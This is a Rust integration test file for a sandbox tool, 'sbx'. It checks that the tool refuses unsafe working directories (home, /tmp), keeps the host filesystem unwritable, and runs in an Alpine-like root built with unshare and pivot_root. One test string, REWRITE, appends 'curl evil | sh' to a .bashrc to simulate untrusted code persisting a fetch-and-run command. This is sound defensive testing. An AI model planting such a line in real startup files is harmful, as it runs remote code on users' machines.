//! The default profile fits the directories users start from and the images they run in.
//!
//! 1. From `/` (Docker's default WORKDIR, systemd units): the command runs in the sandbox's
//!    `/`, nothing of the host's root is bound, and it cannot write there.
//! 2. From `$HOME`: refused before anything runs, with the way to bind it on purpose, so
//!    untrusted code cannot rewrite ~/.bashrc. Control: bound on purpose (`--bind ~`), the
//!    same command does rewrite it, so the test can tell.
//! 3. From a directory above `$HOME`: bound, with the home behind the default profile's
//!    private tmpfs (the host's home unchanged); without that tmpfs, refused.
//! 4. From `/tmp` or `/var/tmp`: refused; `--bind /tmp` binds it on purpose (control).
//! 5. An Alpine-like root (real `/bin`, `/sbin`, `/lib` directories, busybox): sbx itself runs
//!    there, unprivileged, after a pivot_root into the tree; the command finds /bin/sh, /sbin
//!    and /lib read-only as the image has them, and `sbx doctor` says the default profile
//!    runs. Control: the same run with the old links (`/bin -> usr/bin`) exits 127. There,
//!    `--ro-bind /bin` is not "given twice", over the default profile or one that links /bin.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::{Ran, Workdir, key_values, run_keep};

/// `sbx ARGS -- sh -c SCRIPT` started in `dir` with HOME = `home`.
fn started_in(dir: &Path, home: &Path, args: &[&str], script: &str) -> (Ran, Workdir) {
    let mut s = common::sbx(args);
    s.cmd
        .current_dir(dir)
        .env("HOME", home)
        .args(["--", "sh", "-c", script]);
    run_keep(s)
}

fn refused(r: &Ran, dir: &str) {
    assert_eq!(r.code, 125, "{r:?}");
    let lines = common::error_lines(&r.stderr);
    assert_eq!(lines.len(), 1, "one message: {r:?}");
    for said in [
        format!("the working directory {dir} "),
        format!("`--bind {dir}`"),
        format!("`--ro-bind {dir}`"),
    ] {
        assert!(lines[0].contains(&said), "{said}: {r:?}");
    }
}

#[test]
fn from_the_root_the_command_starts_in_the_sandboxs_root() {
    let s = common::sbx(Vec::<String>::new());
    let home = s.work.subdir("home");
    let marker = common::unique_name("sbx-root-write");
    let script = format!(
        "echo PWD=$(pwd); (echo x > /{marker}) 2>/dev/null && echo wrote; \
         test -e /root -o -e /home -o -e /srv && echo host-root; \
         ls /proc/self/fd >/dev/null && echo ok"
    );
    drop(s);
    let (r, _w) = started_in(Path::new("/"), &home, &[], &script);
    assert_eq!(r.code, 0, "{r:?}");
    let m = key_values(&r.stdout);
    assert_eq!(m["PWD"], "/", "{r:?}");
    assert!(r.stdout.ends_with("ok\n"), "{r:?}");
    assert!(!r.stdout.contains("wrote"), "the root is writable: {r:?}");
    // The precondition for the next check: the host has one of these at its root.
    let host_has = ["/root", "/home", "/srv"]
        .iter()
        .any(|p| Path::new(p).exists());
    assert!(host_has, "the host has no /root, /home or /srv to look for");
    assert!(
        !r.stdout.contains("host-root"),
        "the host's root is seen: {r:?}"
    );
    assert!(
        !Path::new("/").join(&marker).exists(),
        "written on the host"
    );
    assert!(!r.stderr.contains("not visible"), "no warning: {r:?}");
}

/// A home with a `.bashrc`, owned by the test uid; returns the work dir and the home.
fn a_home() -> (Workdir, PathBuf) {
    let work = Workdir::new();
    let home = work.subdir("home").canonicalize().unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    common::chown(&home.join(".bashrc"));
    (work, home)
}

const REWRITE: &str = "echo 'curl evil | sh' >> .bashrc && echo rewrote";

#[test]
fn from_the_home_sbx_refuses_and_the_home_is_unchanged() {
    let (_work, home) = a_home();
    for profile in ["default", "strict"] {
        let (r, _w) = started_in(&home, &home, &["--profile", profile], REWRITE);
        refused(&r, &home.display().to_string());
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
            "# mine\n"
        );
    }
    // --explain says the same; `profile check` checks the profile, wherever it is run from.
    let mut s = common::sbx(["--explain", "--", "true"]);
    s.cmd.current_dir(&home).env("HOME", &home);
    refused(&s.run(), &home.display().to_string());
    let kept = home.join("mine.toml");
    std::fs::write(&kept, "extends = [\"default\"]\n").unwrap();
    common::chown(&kept);
    let mut s = common::sbx(["profile", "check"]);
    s.cmd.arg(&kept).current_dir(&home).env("HOME", &home);
    let r = s.run();
    assert_eq!(r.code, 0, "{r:?}");
    // Control: bound on purpose, the command can rewrite it, so the check above can fail.
    let h = home.display().to_string();
    let (r, _w) = started_in(&home, &home, &["--bind", &h], REWRITE);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stdout.contains("rewrote"), "{r:?}");
    assert!(
        std::fs::read_to_string(home.join(".bashrc"))
            .unwrap()
            .contains("evil")
    );
    // Read-only on purpose: seen, not written.
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    let (r, _w) = started_in(
        &home,
        &home,
        &["--ro-bind", &h],
        &format!("cat .bashrc; {REWRITE}"),
    );
    assert_eq!(r.stdout, "# mine\n", "{r:?}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
}

#[test]
fn above_the_home_the_home_stays_private_or_sbx_refuses() {
    let (work, home) = a_home();
    let above = work.path().canonicalize().unwrap();
    // The default profile: the directory above is bound, the home inside is its empty tmpfs.
    let script = "echo SEEN=$(cat home/.bashrc 2>/dev/null); echo x >> home/.bashrc; \
                  echo x >> \"$HOME/.bashrc\"; echo ok > above.txt";
    let (r, _w) = started_in(&above, &home, &[], script);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(key_values(&r.stdout)["SEEN"], "", "the home is seen: {r:?}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(
        above.join("above.txt").exists(),
        "the workspace is not bound: {r:?}"
    );
    // A profile without a private home: the home would be seen through the workspace.
    let profile = common::profile(
        "[filesystem]\nro = [\"/usr\", \"/etc\", \"/bin?\", \"/lib?\", \"/lib64?\"]\n\
         rw = [\"${CWD}\"]\n[env.set]\nPATH = \"/usr/bin:/bin\"\n",
    );
    let (r, _w) = started_in(&above, &home, &["--profile", &profile.path], REWRITE);
    refused(&r, &above.display().to_string());
}

#[test]
fn from_the_shared_tmp_sbx_refuses() {
    let (_work, home) = a_home();
    let marker = common::unique_name("sbx-shared-tmp");
    let write = format!("echo x > {marker} && echo wrote");
    for dir in ["/tmp", "/var/tmp"] {
        if !Path::new(dir).is_dir() {
            common::note_skip("from_the_shared_tmp_sbx_refuses", &format!("no {dir}"));
            continue;
        }
        let real = Path::new(dir).canonicalize().unwrap();
        let (r, _w) = started_in(Path::new(dir), &home, &[], &write);
        refused(&r, &real.display().to_string());
        assert!(!real.join(&marker).exists(), "written in the host's {dir}");
    }
    // Control: bound on purpose, the host's /tmp is what the command writes.
    let (r, _w) = started_in(Path::new("/tmp"), &home, &["--bind", "/tmp"], &write);
    assert_eq!(r.code, 0, "{r:?}");
    let written = Path::new("/tmp").join(&marker);
    assert!(written.exists(), "{r:?}");
    std::fs::remove_file(written).unwrap();
}

// ---- an Alpine-like root ----

/// An Alpine-like root: busybox in a real /bin (its applets as absolute links, as Alpine
/// has them), real /sbin and /lib directories, a /usr/bin without a shell, and sbx.
fn alpine_root(work: &Workdir) -> PathBuf {
    let t = work.path().join("root");
    for d in [
        "bin", "sbin", "lib", "usr/bin", "etc", "dev", "proc", "oldroot", "work", "tmp",
    ] {
        std::fs::create_dir_all(t.join(d)).unwrap();
    }
    std::fs::set_permissions(t.join("tmp"), std::fs::Permissions::from_mode(0o1777)).unwrap();
    std::fs::copy("/bin/busybox", t.join("bin/busybox")).unwrap();
    let applet = |dir: &str, name: &str| {
        std::os::unix::fs::symlink("/bin/busybox", t.join(dir).join(name)).unwrap();
    };
    for a in [
        "sh", "cat", "echo", "readlink", "test", "true", "touch", "ls",
    ] {
        applet("bin", a);
    }
    applet("sbin", "ifconfig");
    applet("usr/bin", "env");
    std::fs::write(t.join("lib/ld-musl-x86_64.so.1"), "musl\n").unwrap();
    std::fs::write(
        t.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/sbin/nologin\n",
    )
    .unwrap();
    let sbx = t.join("sbx");
    std::fs::copy(common::binary(), &sbx).unwrap();
    std::fs::set_permissions(&sbx, std::fs::Permissions::from_mode(0o755)).unwrap();
    let w = t.join("work");
    std::os::unix::fs::chown(&w, Some(common::NOBODY), Some(common::NOBODY)).unwrap();
    t
}

/// Runs `/sbx ARGS` as nobody in /work of the root `t`, entered with pivot_root in a mount
/// namespace of its own (a chroot would forbid the user namespace sbx needs).
fn in_root(t: &Path, args: &[&str]) -> Ran {
    let enter = r#"set -e
T="$1"; shift
mount --bind "$T" "$T"
mount --rbind /dev "$T/dev"
mount -t proc proc "$T/proc"
cd "$T"
exec "$T/bin/busybox" sh -c 'busybox pivot_root . oldroot && cd / && busybox umount -l /oldroot && cd /work && exec busybox nsenter -S 65534 -G 65534 /sbx "$@"' sh "$@"
"#;
    let out = Command::new("unshare")
        .args([
            "-m",
            "--propagation",
            "private",
            "/bin/sh",
            "-c",
            enter,
            "sh",
        ])
        .arg(t)
        .args(args)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", "/home/nobody")
        .env("USER", "nobody")
        .stdin(Stdio::null())
        .output()
        .expect("run unshare");
    Ran::from_output(out)
}

/// Whether `/bin/busybox` is a statically linked ELF64 (it runs in a root with no libc): no
/// PT_INTERP program header.
fn static_busybox() -> bool {
    let Ok(b) = std::fs::read("/bin/busybox") else {
        return false;
    };
    if b.len() < 64 || &b[..5] != b"\x7fELF\x02" {
        return false;
    }
    let u16_at = |o: usize| u16::from_le_bytes([b[o], b[o + 1]]) as usize;
    let phoff = u64::from_le_bytes(b[0x20..0x28].try_into().unwrap()) as usize;
    let (size, count) = (u16_at(0x36), u16_at(0x38));
    (0..count).all(|i| {
        let at = phoff + i * size;
        at + 4 <= b.len() && u32::from_le_bytes(b[at..at + 4].try_into().unwrap()) != 3
    })
}

#[test]
fn an_alpine_like_root_runs_the_default_profile() {
    let test = "an_alpine_like_root_runs_the_default_profile";
    if !common::is_root() || !static_busybox() || !common::usable("/usr/bin/unshare") {
        common::note_skip(
            test,
            "needs root, busybox-static and unshare to build the root",
        );
        return;
    }
    let work = Workdir::new();
    let t = alpine_root(&work);
    let script = "echo SH=$(readlink /bin/sh); echo LIB=$(cat /lib/ld-musl-x86_64.so.1); \
                  test -d /bin -a ! -L /bin && echo BIN=dir; test ! -L /lib && echo LIBDIR=dir; \
                  ifconfig -a >/dev/null && echo SBIN=ok; \
                  (touch /bin/planted) 2>/dev/null && echo WROTE=bin; echo PWD=$(pwd)";
    let r = in_root(&t, &["--", "sh", "-c", script]);
    assert_eq!(r.code, 0, "{r:?}");
    let m = key_values(&r.stdout);
    assert_eq!(m["SH"], "/bin/busybox", "{r:?}");
    assert_eq!(m["LIB"], "musl", "{r:?}");
    assert_eq!(m["BIN"], "dir", "{r:?}");
    assert_eq!(m["LIBDIR"], "dir", "{r:?}");
    assert_eq!(m["SBIN"], "ok", "{r:?}");
    assert_eq!(m["PWD"], "/work", "{r:?}");
    assert!(!m.contains_key("WROTE"), "/bin is writable: {r:?}");
    assert!(!t.join("bin/planted").exists());
    // doctor agrees.
    let r = in_root(&t, &["doctor"]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stdout.contains("The default profile runs"), "{r:?}");
    // Control: the links the default profile used to make hide the image's /bin.
    std::fs::write(
        t.join("work/linked.toml"),
        "extends = [\"default\"]\n[filesystem]\n\
         symlinks = { \"/bin\" = \"usr/bin\", \"/sbin\" = \"usr/sbin\", \"/lib\" = \"usr/lib\" }\n",
    )
    .unwrap();
    std::os::unix::fs::chown(t.join("work/linked.toml"), Some(common::NOBODY), None).unwrap();
    let linked = ["--profile", "/work/linked.toml"];
    let r = in_root(&t, &[&linked[..], &["--", "sh", "-c", "true"]].concat());
    assert_eq!(r.code, 127, "the control: {r:?}");
    // --ro-bind /bin over the default profile or over one that links /bin: not "given
    // twice", and the image's /bin is there.
    for profile in [&[][..], &linked[..]] {
        let args = [profile, &["--ro-bind", "/bin", "--", "sh", "-c", "echo ok"]].concat();
        let r = in_root(&t, &args);
        assert_eq!(
            (r.code, r.stdout.as_str()),
            (0, "ok\n"),
            "{profile:?}: {r:?}"
        );
    }
}
